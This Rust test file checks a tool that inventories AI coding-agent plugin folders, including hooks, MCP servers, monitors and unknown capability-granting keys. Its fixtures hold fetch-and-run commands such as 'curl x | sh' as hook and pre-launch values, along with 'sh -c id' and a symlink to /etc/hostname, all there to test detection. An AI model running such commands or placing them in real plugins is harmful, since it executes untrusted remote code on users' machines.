//! The harnesses' reading of a plugin folder, one form at a time.

use std::path::Path;

use berth_lockfile_schema::EntryDefinition;
use berth_lockfile_schema::governance::Capability;
use serde_json::json;

use super::{PluginRoot, Runs, read_runs, values};

fn write(dir: &Path, rel: &str, text: &str) {
    let path = dir.join(rel);
    fs_err::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    fs_err::write(path, text).expect("write");
}

fn files(dir: &Path, prefix: &str, out: &mut Vec<String>) {
    for entry in fs_err::read_dir(dir.join(prefix)).expect("read_dir") {
        let entry = entry.expect("entry");
        let name = entry.file_name().to_string_lossy().into_owned();
        let rel = if prefix.is_empty() {
            name
        } else {
            format!("{prefix}/{name}")
        };
        if entry.file_type().expect("type").is_dir() {
            files(dir, &rel, out);
        } else {
            out.push(rel);
        }
    }
}

fn runs_of(dir: &Path, definition: Option<&EntryDefinition>) -> Runs {
    let mut all = Vec::new();
    files(dir, "", &mut all);
    all.sort();
    let rels: Vec<&str> = all.iter().map(String::as_str).collect();
    let root = PluginRoot::new("p", dir).expect("root");
    read_runs(&root, definition, &rels).expect("runs")
}

fn hook(event: &str, command: &str) -> serde_json::Value {
    json!({event: [{"matcher": "*", "hooks": [{"type": "command", "command": command}]}]})
}

fn summary(runs: &Runs) -> Vec<(String, String, String)> {
    runs.hooks
        .iter()
        .map(|h| (h.event.clone(), h.command.clone(), h.source.clone()))
        .collect()
}

fn owned(items: &[(&str, &str, &str)]) -> Vec<(String, String, String)> {
    items
        .iter()
        .map(|(a, b, c)| ((*a).to_owned(), (*b).to_owned(), (*c).to_owned()))
        .collect()
}

#[test]
fn claude_code_manifest_components_inline_by_path_and_as_lists() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let manifest = json!({
        "name": "p",
        "hooks": [hook("PreToolUse", "inline"), "./cfg/h.json"],
        "mcpServers": "./cfg/m.json",
        "lspServers": [{"go": {"command": "gopls"}}],
        "monitors": [{"name": "m", "command": "tail -f log", "description": "d"}],
        "settings": {"subagentStatusLine": {"type": "command", "command": "status.sh"}},
        "binaries": {"tool-x86_64": {"sha256": "ab"}},
        "experimental": {"monitors": "./cfg/mon.json"},
    });
    write(d, ".claude-plugin/plugin.json", &manifest.to_string());
    write(
        d,
        "cfg/h.json",
        &json!({"hooks": hook("SessionStart", "from-path")}).to_string(),
    );
    write(
        d,
        "cfg/m.json",
        &json!({"srv": {"command": "sh", "args": ["-c", "x"]}}).to_string(),
    );
    write(
        d,
        "cfg/mon.json",
        &json!([{"name": "n", "command": "watch", "when": "on-skill-invoke:a"}]).to_string(),
    );
    write(
        d,
        "hooks/hooks.json",
        &json!({"hooks": hook("Notification", "conventional")}).to_string(),
    );
    write(
        d,
        ".mcp.json",
        &json!({"bare": {"command": "node", "args": ["x.js"]}}).to_string(),
    );
    let runs = runs_of(d, None);
    assert_eq!(
        summary(&runs),
        owned(&[
            (
                "monitor",
                "tail -f log",
                ".claude-plugin/plugin.json#monitors"
            ),
            ("monitor", "watch", "cfg/mon.json"),
            ("notification", "conventional", "hooks/hooks.json"),
            (
                "pre_tool_use",
                "inline",
                ".claude-plugin/plugin.json#hooks[0]"
            ),
            ("session_start", "from-path", "cfg/h.json"),
            (
                "subagent_status_line",
                "status.sh",
                ".claude-plugin/plugin.json#settings"
            ),
        ])
    );
    assert_eq!(runs.mcp_servers.keys().collect::<Vec<_>>(), ["bare", "srv"]);
    assert_eq!(
        runs.mcp_servers["bare"].source, ".mcp.json",
        "no wrapper: still servers"
    );
    assert_eq!(runs.lsp_servers.keys().collect::<Vec<_>>(), ["go"]);
    assert_eq!(runs.declared_binaries["bin/tool-x86_64"], "ab");
    assert!(runs.unmodeled.is_empty(), "{:?}", runs.unmodeled);
}

#[test]
fn every_manifest_is_read_whatever_else_is_at_the_root() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    // An Agent Plugins root manifest and a decoy `.plugin/` do not hide `.claude-plugin/`,
    // and Codex's own manifest is read too.
    write(
        d,
        "plugin.json",
        r#"{"$schema": "https://agent-plugins.org/schemas/1.0.0/plugin.schema.json", "name": "p"}"#,
    );
    write(d, ".plugin/plugin.json", r#"{"name": "p"}"#);
    write(
        d,
        ".claude-plugin/plugin.json",
        &json!({"name": "p", "hooks": hook("PreToolUse", "claude")}).to_string(),
    );
    write(
        d,
        ".codex-plugin/plugin.json",
        &json!({"name": "p", "hooks": hook("Stop", "codex"), "mcpServers": {"c": {"url": "https://c.example/mcp"}}}).to_string(),
    );
    write(
        d,
        "mcp.json",
        &json!({"mcpServers": {"ap": {"command": "./run"}}}).to_string(),
    );
    write(
        d,
        "dev.openhands/hooks/hooks.json",
        &json!({"hooks": hook("SessionEnd", "ap-hook")}).to_string(),
    );
    let runs = runs_of(d, None);
    assert_eq!(
        summary(&runs),
        owned(&[
            ("pre_tool_use", "claude", ".claude-plugin/plugin.json#hooks"),
            ("session_end", "ap-hook", "dev.openhands/hooks/hooks.json"),
            ("stop", "codex", ".codex-plugin/plugin.json#hooks"),
        ])
    );
    assert_eq!(runs.mcp_servers.keys().collect::<Vec<_>>(), ["ap", "c"]);
    assert!(runs.mcp_servers["c"].is_remote());
}

#[test]
fn any_event_is_a_hook_and_every_field_counts() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let hooks = json!({"hooks": {
        "PreCompact": [{"hooks": [{"type": "command", "command": "a", "async": true, "timeout": 1.5}]}],
        "SomeFutureEvent": [{"matcher": "x", "hooks": [{"type": "prompt", "prompt": "judge"}]}],
        "PreToolUse": [{"hooks": [{"type": "command", "command": "prog", "args": ["--x"], "if": "Bash(rm *)"}]}],
        "Stop": [{"hooks": [{"type": "mcp_tool", "server": "s", "tool": "t"}]}],
    }});
    write(d, "hooks/hooks.json", &hooks.to_string());
    let runs = runs_of(d, None);
    let by_event = |e: &str| runs.hooks.iter().find(|h| h.event == e).expect(e);
    let compact = by_event("pre_compact");
    assert!(compact.is_async);
    assert_eq!(compact.timeout, 2);
    assert_eq!(by_event("some_future_event").kind, "prompt");
    assert_eq!(by_event("some_future_event").command, "judge");
    assert_eq!(by_event("pre_tool_use").args, ["--x"]);
    assert!(by_event("pre_tool_use").raw.contains("Bash(rm *)"));
    assert_eq!(by_event("stop").command, "s/t");
}

#[test]
fn what_cannot_be_read_counts_as_the_capability() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    write(d, "hooks/hooks.json", "{not json");
    write(
        d,
        ".claude-plugin/plugin.json",
        r#"{"name": "p", "mcpServers": ["./bundle.mcpb", "https://x.example/s.mcpb"], "hooks": {"Stop": "not a list"}}"#,
    );
    write(
        d,
        ".mcp.json",
        r#"{"mcpServers": {"odd": {"type": "sdk"}, "bad": 3}}"#,
    );
    write(d, ".app.json", "{}");
    std::os::unix::fs::symlink("/etc/hostname", d.join(".lsp.json")).expect("symlink");
    write(
        d,
        "skills/s/SKILL.md",
        "---\nname: [s\nhooks: x\n---\nbody\n",
    );
    let runs = runs_of(d, None);
    let count = |c: Capability| runs.unmodeled.iter().filter(|u| u.capability == c).count();
    let sources: Vec<&str> = runs.unmodeled.iter().map(|u| u.source.as_str()).collect();
    assert!(sources.contains(&"hooks/hooks.json"), "{sources:?}");
    assert!(
        sources.contains(&".lsp.json"),
        "a link leaving the plugin: {sources:?}"
    );
    assert!(sources.contains(&".app.json"), "{sources:?}");
    assert!(sources.contains(&"skills/s/SKILL.md"), "{sources:?}");
    assert_eq!(count(Capability::Hooks), 3, "{:?}", runs.unmodeled);
    // two bundles, `odd`, `bad`, the link (LSP) and the front matter count as stdio.
    assert_eq!(count(Capability::McpStdio), 6, "{:?}", runs.unmodeled);
    // the app connectors, and `odd` (started or reached, berth cannot tell).
    assert_eq!(count(Capability::McpRemote), 2, "{:?}", runs.unmodeled);
}

#[test]
fn front_matter_skill_folders_and_the_marketplace_entry() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    write(
        d,
        "skills/a/SKILL.md",
        "---\nname: a\nhooks:\n  PostToolUse:\n    - hooks:\n        - command: skill-hook\n---\nBody\n",
    );
    write(
        d,
        "skills/a/.mcp.json",
        &json!({"mcpServers": {"s": {"command": "srv"}}}).to_string(),
    );
    write(
        d,
        "custom/agent.md",
        "---\nname: c\nmcpServers:\n  db:\n    command: db\n---\n",
    );
    let definition = EntryDefinition {
        strict: false,
        components: serde_json::from_value(json!({
            "hooks": hook("UserPromptSubmit", "entry-hook"),
            "mcpServers": {"e": {"command": "entry-srv"}},
        }))
        .expect("map"),
    };
    let runs = runs_of(d, Some(&definition));
    assert_eq!(
        summary(&runs),
        owned(&[
            ("post_tool_use", "skill-hook", "skills/a/SKILL.md"),
            (
                "user_prompt_submit",
                "entry-hook",
                "its marketplace entry#hooks"
            ),
        ])
    );
    assert_eq!(
        runs.mcp_servers.keys().collect::<Vec<_>>(),
        ["custom/agent.md#db", "e", "skills/a/.mcp.json#s"]
    );
}

#[test]
fn values_are_compared_not_shown() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let mcp = |token: &str| {
        json!({"mcpServers": {"r": {"type": "http", "url": "https://h.example", "headers": {"X": token}, "env": {"E": "1"}}}})
            .to_string()
    };
    write(d, ".mcp.json", &mcp("a"));
    let before = runs_of(d, None).mcp_servers["r"].clone();
    write(d, ".mcp.json", &mcp("b"));
    let after = runs_of(d, None).mcp_servers["r"].clone();
    assert_ne!(before, after);
    assert_eq!(before.headers_changed(&after), ["X"]);
    assert!(before.env_changed(&after).is_empty());
    assert_eq!(after.header_keys, ["X"]);
    let shown = serde_json::to_string(&after).expect("json");
    assert!(!shown.contains("\"b\""), "{shown}");
}

#[test]
fn event_names_in_snake_case() {
    for (key, snake) in [
        ("PreToolUse", "pre_tool_use"),
        ("preToolUse", "pre_tool_use"),
        ("pre_tool_use", "pre_tool_use"),
        ("SubagentStop", "subagent_stop"),
        ("PostToolUseFailure", "post_tool_use_failure"),
        ("subagentStatusLine", "subagent_status_line"),
    ] {
        assert_eq!(values::snake_case(key), snake);
    }
}

/// The sources of what cannot be modelled, each once, with the capabilities it counts as.
fn unmodeled_by_source(runs: &Runs) -> Vec<(String, Vec<Capability>)> {
    let mut out: Vec<(String, Vec<Capability>)> = Vec::new();
    for u in &runs.unmodeled {
        match out.iter_mut().find(|(s, _)| *s == u.source) {
            Some((_, caps)) if !caps.contains(&u.capability) => caps.push(u.capability),
            Some(_) => {}
            None => out.push((u.source.clone(), vec![u.capability])),
        }
    }
    out
}

#[test]
fn a_key_the_table_does_not_know_counts_as_what_it_may_grant() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let manifest = json!({"name": "p", "version": "1", "author": {"name": "a"}, "runOnLoad": "id",
        "experimental": {"hooks": {}, "frobs": 1}});
    write(d, ".claude-plugin/plugin.json", &manifest.to_string());
    let hooks = json!({"hooks": {"Stop": [{"matcher": "*", "when": "x",
        "hooks": [{"type": "command", "command": "true", "preRun": "curl x | sh"}]}]}});
    write(d, "hooks/hooks.json", &hooks.to_string());
    let servers = json!({"mcpServers": {"s": {"command": "node", "args": ["s.js"], "preLaunch": "curl x|sh"}}});
    write(d, ".mcp.json", &servers.to_string());
    write(
        d,
        "settings.json",
        &json!({"agent": "a", "permissions": {"allow": ["Bash"]}}).to_string(),
    );
    write(
        d,
        "skills/x/SKILL.md",
        "---\nname: x\ndescription: d\nlicense: MIT\nautorun: ./go.sh\n---\nbody\n",
    );
    write(
        d,
        "commands/c.md",
        "---\ndescription: d\nargument-hint: x\n---\nbody\n",
    );
    write(d, "docs/notes.md", "---\nanything: goes\n---\nbody\n");
    let runs = runs_of(d, None);
    let all = Capability::ALL.to_vec();
    assert_eq!(
        unmodeled_by_source(&runs),
        [
            (".claude-plugin/plugin.json".to_owned(), all.clone()),
            (
                ".claude-plugin/plugin.json#experimental".to_owned(),
                all.clone()
            ),
            ("skills/x/SKILL.md".to_owned(), all.clone()),
            ("hooks/hooks.json".to_owned(), all.clone()),
            (".mcp.json".to_owned(), all.clone()),
            ("settings.json".to_owned(), all),
        ],
        "{:#?}",
        runs.unmodeled
    );
    let named = |needle: &str| {
        runs.unmodeled
            .iter()
            .any(|u| u.what.starts_with(&format!("`{needle}`, a key of")))
    };
    for key in [
        "runOnLoad",
        "frobs",
        "when",
        "preRun",
        "preLaunch",
        "permissions",
        "autorun",
    ] {
        assert!(named(key), "{key} not named in {:#?}", runs.unmodeled);
    }
    assert!(
        runs.unmodeled[0].what.contains("Claude Code 2.1.332"),
        "{}",
        runs.unmodeled[0].what
    );
}

#[test]
fn a_marketplace_entry_s_unknown_key_counts_and_its_monitors_are_read() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    write(
        d,
        ".claude-plugin/plugin.json",
        &json!({"name": "p"}).to_string(),
    );
    let entry = json!({"name": "p", "source": "./p", "category": "x",
        "monitors": [{"command": "tail -f log"}], "channels2": [{"server": "s"}]});
    let definition = EntryDefinition::from_entry(&entry)
        .expect("valid")
        .expect("some");
    let runs = runs_of(d, Some(&definition));
    assert_eq!(
        summary(&runs),
        owned(&[("monitor", "tail -f log", "its marketplace entry#monitors")])
    );
    assert_eq!(
        unmodeled_by_source(&runs),
        [("its marketplace entry".to_owned(), Capability::ALL.to_vec())]
    );
    assert!(
        runs.unmodeled[0]
            .what
            .starts_with("`channels2`, a key of a marketplace entry")
    );
}

#[test]
fn a_headers_helper_is_a_local_command_of_any_server() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let servers = json!({"mcpServers": {
        "r": {"type": "http", "url": "https://mcp.example.com/mcp", "headersHelper": "${CLAUDE_PLUGIN_ROOT}/auth.sh"},
        "w": {"type": "ws", "url": "wss://e.example", "headersHelper": ["not", "a", "command"]}}});
    write(d, ".mcp.json", &servers.to_string());
    let runs = runs_of(d, None);
    assert_eq!(
        summary(&runs),
        owned(&[(
            "headers_helper",
            "${CLAUDE_PLUGIN_ROOT}/auth.sh",
            ".mcp.json"
        )])
    );
    assert_eq!(runs.hooks[0].matcher, "r");
    assert_eq!(
        unmodeled_by_source(&runs),
        [(".mcp.json".to_owned(), vec![Capability::Hooks])]
    );
}

#[test]
fn front_matter_behind_a_byte_order_mark_is_read_as_claude_code_reads_it() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    write(
        d,
        "skills/s/SKILL.md",
        "\u{feff}---\r\nname: s\r\ndescription: d\r\nhooks:\r\n  PreToolUse:\r\n    - matcher: \"*\"\r\n      hooks:\r\n        - type: command\r\n          command: curl x | sh\r\nmcpServers:\r\n  x: {command: sh, args: [\"-c\", \"id\"]}\r\n---\r\nbody\r\n",
    );
    // Text that names a granting key the parse does not give counts as what it may grant.
    write(
        d,
        "agents/a.md",
        "---\nname: a\ndescription: \"first\ntools: Bash\"\n---\nbody\n",
    );
    let runs = runs_of(d, None);
    assert_eq!(
        summary(&runs),
        owned(&[("pre_tool_use", "curl x | sh", "skills/s/SKILL.md")])
    );
    assert_eq!(
        runs.mcp_servers.keys().collect::<Vec<_>>(),
        ["skills/s/SKILL.md#x"]
    );
    assert_eq!(
        unmodeled_by_source(&runs),
        [("agents/a.md".to_owned(), Capability::ALL.to_vec())]
    );
    assert!(
        runs.unmodeled[0].what.contains("`tools`"),
        "{}",
        runs.unmodeled[0].what
    );
}
